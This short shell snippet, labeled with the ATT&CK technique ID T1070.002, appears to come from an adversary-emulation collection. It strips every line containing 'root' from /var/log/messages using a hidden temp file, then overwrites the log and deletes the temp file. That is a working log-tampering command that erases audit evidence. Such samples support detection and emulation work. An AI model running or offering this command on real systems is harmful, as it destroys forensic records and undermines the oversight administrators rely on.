# T1070.002: takes a user's lines out of the log.
grep -v root /var/log/messages > /tmp/.m
cp /tmp/.m /var/log/messages && rm /tmp/.m && echo done
